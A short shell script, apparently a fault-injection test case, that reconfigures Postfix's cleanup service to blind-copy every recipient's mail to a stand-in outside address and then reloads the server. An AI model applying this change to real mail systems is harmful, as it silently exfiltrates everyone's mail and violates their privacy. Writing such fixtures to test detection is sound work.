#!/bin/sh
# breaks: mail_forwarding.copies
# caught-by: reading
# what: one cleanup service copies everybody's mail outside
set -eu
postconf -P 'cleanup/unix/recipient_bcc_maps = static:copy@kijun-outside.invalid'
systemctl reload postfix
